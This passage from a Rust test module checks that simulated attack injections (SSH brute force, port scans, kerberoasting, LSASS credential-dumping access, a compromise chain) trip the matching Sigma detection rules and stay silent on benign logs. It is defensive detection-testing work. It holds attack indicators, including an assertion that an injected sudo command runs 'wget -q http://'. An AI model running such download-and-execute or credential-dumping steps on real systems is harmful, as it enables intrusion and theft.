                        Injection::LowAndSlow(_) => {
                            let mut per_hour: HashMap<i64, usize> = HashMap::new();
                            for ev in &attack {
                                *per_hour.entry((ev.ts - truth.start_ms) / 3_600_000).or_default() += 1;
                            }
                            assert!(per_hour.values().all(|&n| n <= 4), "{per_hour:?}");
                            assert!(truth.end_ms - truth.start_ms >= 8 * 3_600_000);
                            assert!(attack.iter().all(|ev| field(ev, "user.name") == "root"));
                        }
                        _ => assert!(failures.len() >= 30),
                    }
                }
                Injection::PamBruteForce(_) => {
                    assert!(attack.iter().all(|ev| field(ev, "event.action") == "pam_authentication_failure" && field(ev, "source.ip") == truth.entity));
                }
                Injection::CompromiseChain(_) => {
                    assert_eq!(field(attack[0], "system.auth.ssh.event"), "Accepted");
                    assert_eq!(field(attack[0], "source.ip"), truth.entity);
                    let user = field(attack[0], "user.name");
                    let host = field(attack[0], "host.hostname");
                    let chain: Vec<&Event> = events.iter().map(|(ev, _)| ev).filter(|ev| text(ev, "user.name").as_deref() == Some(user.as_str())).collect();
                    assert_eq!(chain.len(), count + 1);
                    assert_eq!(chain, attack);
                    assert!(chain[1..].iter().all(|ev| field(ev, "event.action") == "sudo_command" && field(ev, "host.hostname") == host));
                    assert!(field(chain[count], "system.auth.sudo.command").contains("wget -q http://"));
                    assert_eq!(chain[count].ts, truth.end_ms);
                }
                Injection::WebScan(_) => {
                    assert!(attack.iter().all(|ev| field(ev, "http.response.status_code") == "404"));
                    assert_eq!(distinct(&attack, "url.path").len(), count);
                }
                Injection::VerticalScan(_) | Injection::HorizontalScan(_) => {
                    let vertical = matches!(injection, Injection::VerticalScan(_));
                    assert_eq!(distinct(&attack, "destination.port").len(), if vertical { count } else { 1 }, "{kind}");
                    assert_eq!(distinct(&attack, "destination.ip").len(), if vertical { 1 } else { count }, "{kind}");
                    let states = distinct(&attack, "zeek.connection.state");
                    assert!(states.iter().all(|s| ["S0", "REJ", "RSTO"].contains(&s.as_str())), "{states:?}");
                    assert!(states.contains("S0") && states.contains("REJ"));
                }
                Injection::WindowsLogonFailures(_) => {
                    assert!(attack.iter().all(|ev| field(ev, "EventID") == "4625" && field(ev, "LogonType") == "3"));
                    assert_eq!(distinct(&attack, "TargetUserName").len(), count);
                    assert_eq!(distinct(&attack, "Hostname").len(), 1);
                }
                Injection::Kerberoasting(_) => {
                    assert!(attack.iter().all(|ev| field(ev, "EventID") == "4769" && field(ev, "TicketEncryptionType") == "0x17"));
                    assert_eq!(distinct(&attack, "ServiceName").len(), count.min(ROASTED_SERVICES.len()));
                    assert_eq!(distinct(&attack, "TargetUserName").len(), 1);
                }
                Injection::LateralMovement(_) => {
                    assert!(attack.iter().all(|ev| field(ev, "EventID") == "4624" && field(ev, "LogonType") == "3"));
                    assert_eq!(distinct(&attack, "Hostname").len(), count);
                }
                Injection::LsassAccess(_) => {
                    assert!(attack.iter().all(|ev| field(ev, "EventID") == "10" && field(ev, "TargetImage").ends_with("\\lsass.exe")));
                    assert!(attack.iter().all(|ev| field(ev, "SourceImage") == truth.entity));
                    assert_eq!(distinct(&attack, "GrantedAccess"), ["0x1010".to_string(), "0x1410".to_string()].into());
                }
            }
        }
    }

    #[test]
    fn injections_are_deterministic_and_ordered() {
        let cfg = GeneratorConfig { events: 800_000, injections: Injection::all(), ..GeneratorConfig::default() };
        let truth = ground_truth(&cfg);
        // All but the hours-long guessing finish within a default-length stream.
        assert_eq!(truth.len(), 13);
        for t in &truth {
            let injection = Injection::all().into_iter().find(|i| i.kind() == t.kind).unwrap();
            assert!(t.lines == injection.lines() || t.kind == "low_and_slow", "{t:?}");
        }
        assert_eq!(ground_truth(&cfg), truth);
        let entities: HashSet<&str> = truth.iter().map(|t| t.entity.as_str()).collect();
        assert_eq!(entities.len(), truth.len(), "attackers share an entity");
        let small = GeneratorConfig { events: 300_000, ..cfg.clone() };
        let (mut a, mut b) = (Vec::new(), Vec::new());
        write_all(&small, &mut a).unwrap();
        write_all(&small, &mut b).unwrap();
        assert!(a == b);
        // A Zeek TSV stream carries the scans as TSV; a stream without the format skips them.
        let tsv = GeneratorConfig { format: GenFormat::ZeekTsv, events: 400_000, ..small.clone() };
        let kinds: Vec<_> = ground_truth(&tsv).into_iter().map(|t| (t.kind, t.format)).collect();
        assert_eq!(kinds, [("vertical_port_scan", GenFormat::ZeekTsv), ("horizontal_port_scan", GenFormat::ZeekTsv)]);
    }

    /// The background of each format, without injections.
    fn benign(format: GenFormat) -> (GeneratorConfig, Vec<u8>) {
        let cfg = GeneratorConfig { seed: 23, events: 50_000, format, ..GeneratorConfig::default() };
        let mut bytes = Vec::new();
        write_all(&cfg, &mut bytes).unwrap();
        (cfg, bytes)
    }

    const FORMATS: [GenFormat; 4] = [GenFormat::Syslog, GenFormat::Apache, GenFormat::Zeek, GenFormat::Windows];

    #[test]
    fn attacker_entities_never_occur_in_the_background() {
        let cfg = GeneratorConfig { events: 0, injections: Injection::all(), ..GeneratorConfig::default() };
        let generator = Generator::new(cfg);
        let mut needles: Vec<Vec<u8>> = generator.scheduled.iter().map(|s| s.entity.replace('\\', "\\\\").into_bytes()).collect();
        for slot in 0..13 {
            needles.push(ip_string(attacker_ip(slot, 1)).into_bytes());
            let mut host = Vec::new();
            put_attacker_host(&mut host, slot);
            needles.push(host);
        }
        for marker in ["gobuster", "webadmin", "itadmin", "helpdesk", "svcupd", "Failed password for root", "Accepted password for root"] {
            needles.push(marker.as_bytes().to_vec());
        }
        for format in FORMATS {
            let (_, bytes) = benign(format);
            for line in bytes.split(|&b| b == b'\n') {
                for needle in &needles {
                    assert!(
                        !line.windows(needle.len()).any(|w| w == &needle[..]),
                        "{format:?} background has {}: {}",
                        String::from_utf8_lossy(needle),
                        String::from_utf8_lossy(line)
                    );
                }
            }
        }
    }

    // ---- the default rule set ------------------------------------------------------------------

    fn rules_dir() -> PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR")).join("topologies/rules")
    }

    /// A correlation rule as far as this test evaluates it (spec v2.1 fields).
    #[derive(Clone)]
    struct Correlation {
        title: String,
        name: Option<String>,
        kind: String,
        rules: Vec<String>,
        group_by: Vec<String>,
        timespan_ms: i64,
        field: Option<String>,
        gte: usize,
        /// alias -> (rule name -> field)
        aliases: BTreeMap<String, BTreeMap<String, String>>,
    }

    fn timespan_ms(text: &str) -> i64 {
        let (n, unit) = text.split_at(text.len() - 1);
        let n: i64 = n.parse().unwrap();
        n * match unit {
            "s" => 1_000,
            "m" => 60_000,
            "h" => 3_600_000,
            "d" => 86_400_000,
            _ => panic!("bad timespan {text}"),
        }
    }

    fn strs(node: Option<&Node>) -> Vec<String> {
        match node.map(|n| &n.kind) {
            Some(crate::rules::yaml::NodeKind::Seq(items)) => items.iter().map(|n| n.as_str().unwrap().to_string()).collect(),
            Some(crate::rules::yaml::NodeKind::Scalar { text, .. }) => vec![text.clone()],
            _ => Vec::new(),
        }
    }

    /// The rule set, the names of its detection rules (by index) and its correlations.
    fn load_rules() -> (RuleSet, Vec<Option<String>>, Vec<Correlation>) {
        let rules = RuleSet::load(&[rules_dir()], &Default::default()).unwrap_or_else(|e| panic!("{e:#?}"));
        let mut files: Vec<PathBuf> = std::fs::read_dir(rules_dir()).unwrap().map(|e| e.unwrap().path()).collect();
        files.sort();
        let mut names = Vec::new();
        let mut correlations = Vec::new();
        for file in files {
            for doc in document::load_file(&file).unwrap() {
                match doc {
                    SigmaDocument::Rule(rule) => names.push(rule.name.clone()),
                    SigmaDocument::Correlation(c) => {
                        let body = c.node.get("correlation").unwrap();
                        let condition = body.get("condition");
                        correlations.push(Correlation {
                            title: c.title.clone().unwrap(),
                            name: c.name.clone(),
                            kind: body.get("type").unwrap().as_str().unwrap().to_string(),
                            rules: strs(body.get("rules")),
                            group_by: strs(body.get("group-by")),
                            timespan_ms: timespan_ms(body.get("timespan").unwrap().as_str().unwrap()),
                            field: condition.and_then(|c| c.get("field")).and_then(|f| f.as_str()).map(str::to_string),
                            gte: condition.and_then(|c| c.get("gte")).map_or(0, |g| g.as_str().unwrap().parse().unwrap()),
                            aliases: body
                                .get("aliases")
                                .and_then(|a| a.as_map())
                                .map(|entries| {
                                    entries
                                        .iter()
                                        .map(|(k, v)| {
                                            let per_rule = v
                                                .as_map()
                                                .unwrap_or(&[])
                                                .iter()
                                                .map(|(r, f)| (r.as_str().unwrap().to_string(), f.as_str().unwrap().to_string()))
                                                .collect();
                                            (k.as_str().unwrap().to_string(), per_rule)
                                        })
                                        .collect()
                                })
                                .unwrap_or_default(),
                        });
                    }
                }
            }
        }
        assert_eq!(names.len(), rules.len());
        (rules, names, correlations)
    }

    /// What a correlation saw: whether it fired, for which groups, and the largest count or
    /// distinct count any group reached within one timespan.
    #[derive(Debug, Default)]
    struct Outcome {
        fired: BTreeSet<Vec<String>>,
        max: usize,
    }

    /// A small reference evaluation of Sigma correlations over sorted events: sliding windows
    /// for event_count and value_count, earliest chaining for temporal_ordered.
    struct Evaluator<'a> {
        rules: &'a RuleSet,
        names: &'a [Option<String>],
        correlations: &'a [Correlation],
        events: &'a [(Event, bool)],
        matches: Vec<Vec<u32>>,
    }

    impl<'a> Evaluator<'a> {
        fn new(rules: &'a RuleSet, names: &'a [Option<String>], correlations: &'a [Correlation], events: &'a [(Event, bool)]) -> Self {
            // As a pipeline matches: only the rules whose logsource admits the event.
            let mut matcher = crate::rules::logsource::RuleMatcher::new(std::sync::Arc::new(rules.clone()));
            let matches = events
                .iter()
                .map(|(ev, _)| {
                    let mut hits = Vec::new();
                    matcher.matching(ev, &mut hits);
                    let mut all = Vec::new();
                    rules.matching(ev, &mut all);
                    assert_eq!(hits, all, "a rule matched an event of another log source");
                    hits
                })
                .collect();
            Evaluator { rules, names, correlations, events, matches }
        }

        /// (time, group key, value of `field`) of every hit of rule `name` keyed by `group_by`.
        fn hits(&self, name: &str, group_by: &[String], field: Option<&str>) -> Vec<(i64, Vec<String>, String)> {
            if let Some(i) = self.names.iter().position(|n| n.as_deref() == Some(name)) {
                assert!(i < self.rules.len());
                return self
                    .events
                    .iter()
                    .zip(&self.matches)
                    .filter(|(_, m)| m.contains(&(i as u32)))
                    .filter_map(|((ev, _), _)| {
                        let key: Option<Vec<String>> = group_by.iter().map(|f| text(ev, f)).collect();
                        let value = field.map_or(Some(String::new()), |f| text(ev, f));
                        Some((ev.ts, key?, value?))
                    })
                    .collect();
            }
            let c = self.correlations.iter().find(|c| c.name.as_deref() == Some(name)).unwrap_or_else(|| panic!("no rule named {name}"));
            assert_eq!(&c.group_by, group_by, "{name} is chained with another group-by");
            self.fire_times(c).into_iter().map(|(t, k)| (t, k, String::new())).collect()
        }

        fn fire_times(&self, c: &Correlation) -> Vec<(i64, Vec<String>)> {
            let mut fires = Vec::new();
            match c.kind.as_str() {
                "event_count" | "value_count" => {
                    let mut groups: BTreeMap<Vec<String>, Vec<(i64, String)>> = BTreeMap::new();
                    for name in &c.rules {
                        // An alias names the group-by field per referenced rule.
                        let group_by: Vec<String> = c.group_by.iter().map(|g| c.aliases.get(g).and_then(|a| a.get(name)).unwrap_or(g).clone()).collect();
                        for (t, key, value) in self.hits(name, &group_by, c.field.as_deref()) {
                            groups.entry(key).or_default().push((t, value));
                        }
                    }
                    for (key, mut hits) in groups {
                        hits.sort();
                        let mut from = 0;
                        for to in 0..hits.len() {
                            while hits[to].0 - hits[from].0 >= c.timespan_ms {
                                from += 1;
                            }
                            let n = if c.kind == "event_count" { to + 1 - from } else { hits[from..=to].iter().map(|h| &h.1).collect::<HashSet<_>>().len() };
                            if n >= c.gte {
                                fires.push((hits[to].0, key.clone()));
                            }
                        }
                    }
                }
                "temporal_ordered" => {
                    let steps: Vec<Vec<(i64, Vec<String>, String)>> = c.rules.iter().map(|n| self.hits(n, &c.group_by, None)).collect();
                    let keys: BTreeSet<Vec<String>> = steps[0].iter().map(|h| h.1.clone()).collect();
                    for key in keys {
                        for start in steps[0].iter().filter(|h| h.1 == key).map(|h| h.0) {
                            let mut t = start;
                            let complete = steps[1..].iter().all(|step| match step.iter().filter(|h| h.1 == key && h.0 >= t).map(|h| h.0).min() {
                                Some(next) if next - start < c.timespan_ms => {
                                    t = next;
                                    true
                                }
                                _ => false,
                            });
                            if complete {
                                fires.push((t, key.clone()));
                                break;
                            }
                        }
                    }
                }
                // A baseline judges an entity against days of its own history; the generator's
                // minutes of traffic end before any baseline has learned, so it stays silent
                // here as it does in `vigil replay` (tests/baseline_rules.rs exercises them).
                "x-vigil-baseline" => {}
                other => panic!("{}: correlation type {other} not evaluated here", c.title),
            }
            fires
        }

        fn outcome(&self, c: &Correlation) -> Outcome {
            let fired = self.fire_times(c).into_iter().map(|(_, k)| k).collect();
            // The largest count any group reached (up to four times the threshold): the highest
            // threshold at which the correlation still fires.
            let max = if c.kind == "temporal_ordered" {
                0
            } else {
                (1..=c.gte.max(1) * 4).rev().find(|&gte| !self.fire_times(&Correlation { gte, ..c.clone() }).is_empty()).unwrap_or(0)
            };
            Outcome { fired, max }
        }
    }

    /// The correlation (or, for LSASS, the detection) that each scenario is meant to trip.
    fn expected_rule(kind: &str) -> &'static str {
        match kind {
            "ssh_brute_force" => "SSH Brute Force",
            "ssh_brute_force_success" => "SSH Brute Force Followed By Successful Login",
            "password_spray" => "SSH Password Spraying",
            "low_and_slow" => "SSH Low And Slow Root Password Guessing",
            "pam_brute_force" => "PAM Authentication Failure Brute Force",
            "web_scan" => "Web Content Discovery Scan",
            "vertical_port_scan" => "Vertical Port Scan",
            "horizontal_port_scan" => "Horizontal Port Scan Of Internal Hosts",
            "compromise_chain" => "Linux Server Compromise Chain",
            "windows_logon_failures" => "Windows Logon Failures For Many Accounts From One Source",
            "kerberoasting" => "Kerberoasting",
            "lateral_movement" => "Lateral Movement Via Network Logons To Many Hosts",
            "lsass_access" => "LSASS Memory Access With Credential Dumping Rights",
            other => panic!("no rule for {other}"),
        }
    }

    #[test]
    fn default_rules_load_and_are_complete() {
        let (rules, names, correlations) = load_rules();
        assert!(rules.warnings.is_empty(), "{:#?}", rules.warnings);
        assert_eq!(rules.correlations.len(), correlations.len());
        let mut ids = HashSet::new();
        for r in &rules.rules {
            assert!(ids.insert(r.id.clone().unwrap()), "duplicate id");
            assert!(r.tags.iter().any(|t| t.starts_with("attack.t")), "{}: no technique tag", r.title);
            assert!(r.level.is_some());
        }
        for c in &rules.correlations {
            assert!(ids.insert(c.id.clone().unwrap()), "duplicate id");
        }
        let named: HashSet<&str> = names.iter().flatten().map(String::as_str).chain(correlations.iter().filter_map(|c| c.name.as_deref())).collect();
        for c in &correlations {
            assert!(!c.group_by.is_empty() && c.timespan_ms > 0, "{}", c.title);
            assert!(matches!(c.kind.as_str(), "temporal_ordered" | "x-vigil-baseline") || c.gte > 0, "{}", c.title);
            assert_eq!(c.field.is_some(), c.kind == "value_count", "{}", c.title);
            for r in &c.rules {
                assert!(named.contains(r.as_str()), "{}: unknown rule {r}", c.title);
            }
        }
        for injection in Injection::all() {
            let title = expected_rule(injection.kind());
            assert!(correlations.iter().any(|c| c.title == title) || rules.rules.iter().any(|r| r.title == title), "{title}");
        }
    }

    #[test]
    fn default_rules_detect_every_injection_and_stay_quiet_on_the_background() {
        let (rules, names, correlations) = load_rules();
        // Every detection rule matches some injected line.
        let mut matched_attack = vec![false; rules.len()];
        for injection in Injection::all() {
            let AttackRun { truth, events, .. } = run(injection);
            let eval = Evaluator::new(&rules, &names, &correlations, &events);
            for ((_, hit), m) in events.iter().zip(&eval.matches) {
                if *hit || (injection.kind() == "compromise_chain" && !m.is_empty()) {
                    for &i in m {
                        matched_attack[i as usize] |= *hit || rules.rules[i as usize].title.contains("Sudo");
                    }
                }
            }
            let title = expected_rule(truth.kind);
            match correlations.iter().find(|c| c.title == title) {
                Some(c) => {
                    let outcome = eval.outcome(c);
                    assert!(!outcome.fired.is_empty(), "{title} missed {}", truth.kind);
                    if truth.kind != "compromise_chain" {
                        assert!(outcome.fired.iter().all(|key| key.contains(&truth.entity)), "{title} fired on {:?}, attacker {}", outcome.fired, truth.entity);
                    }
                    eprintln!("{:>24}: {title} fired; largest group value {}", truth.kind, outcome.max);
                }
                None => {
                    let i = rules.rules.iter().position(|r| r.title == title).unwrap() as u32;
                    let hits: Vec<bool> = events.iter().zip(&eval.matches).filter(|(_, m)| m.contains(&i)).map(|((_, hit), _)| *hit).collect();
                    assert_eq!(hits.len() as u64, truth.lines, "{title}");
                    assert!(hits.iter().all(|&h| h));
                }
            }
        }
        for (i, r) in rules.rules.iter().enumerate() {
            // The generator writes no Cowrie honeypot JSON; those rules are tested on the fixture.
            if r.logsource.product.as_deref() == Some("cowrie") {
                continue;
            }
            // Attacks the generator does not inject; tests/default_rules.rs covers these rules.
            if matches!(r.name.as_deref(), Some("pam_authentication_failure_named_host" | "windows_local_logon_failure" | "windows_winrm_session")) {
                continue;
            }
            assert!(matched_attack[i], "{} matches no injected line", r.title);
        }
        // The background: no non-informational detection matches, no correlation fires.
        for format in FORMATS {
            let (cfg, bytes) = benign(format);
            let events = parse(format, &cfg, &bytes, b"");
            assert_eq!(events.len(), 50_000);
            let eval = Evaluator::new(&rules, &names, &correlations, &events);
            let mut counts = vec![0usize; rules.len()];
            for m in &eval.matches {
                for &i in m {
                    counts[i as usize] += 1;
                }
            }
            for (i, r) in rules.rules.iter().enumerate() {
                if counts[i] > 0 {
                    eprintln!("{:>8}: {:>6} background matches of {}", format.name(), counts[i], r.title);
                }
                assert!(counts[i] == 0 || r.level.as_deref() == Some("informational"), "{format:?}: {} matched {} background events", r.title, counts[i]);
            }
            for c in &correlations {
                let outcome = eval.outcome(c);
                assert!(outcome.fired.is_empty(), "{format:?}: {} fired on the background: {:?}", c.title, outcome.fired);
                if outcome.max > 0 {
                    eprintln!("{:>8}: {} background max {} (threshold {})", format.name(), c.title, outcome.max, c.gte);
                }
            }
        }
    }

    /// Prints, for each correlation, the largest count any background entity reaches in a
    /// default Mixed stream of 1,000,000 events (500 s of event time):
    /// `cargo test --lib background_rates -- --ignored --nocapture`.
    #[test]
    #[ignore = "measurement"]
    fn background_rates() {
        let (rules, names, correlations) = load_rules();
        let cfg = GeneratorConfig { seed: 5, events: 1_000_000, ..GeneratorConfig::default() };
        let dir = tempfile::tempdir().unwrap();
        for ((path, _), format) in write_split(&cfg, dir.path()).unwrap().into_iter().zip(MIXED_PARTS) {
            let bytes = std::fs::read(path).unwrap();
            let events = parse(format, &cfg, &bytes, b"");
            let eval = Evaluator::new(&rules, &names, &correlations, &events);
            for c in &correlations {
                let outcome = eval.outcome(c);
                if outcome.max > 0 || !outcome.fired.is_empty() {
                    eprintln!(
                        "{:>8} ({} events): {}: max {} (threshold {}), fired {}",
                        format.name(),
                        events.len(),
                        c.title,
                        outcome.max,
                        c.gte,
                        outcome.fired.len()
                    );
                }
            }
        }
    }
}
